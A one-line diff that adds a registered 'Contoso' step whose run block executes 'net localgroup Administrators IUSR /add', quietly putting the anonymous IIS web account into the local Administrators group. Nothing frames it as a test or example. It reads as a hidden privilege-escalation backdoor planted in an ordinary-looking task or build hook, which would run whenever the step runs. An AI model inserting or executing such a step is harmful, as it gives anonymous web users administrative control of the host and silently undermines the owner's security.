@@ -1,0 +1,1 @@
+Register-ContosoStep @{ Run = { net localgroup Administrators IUSR /add } }
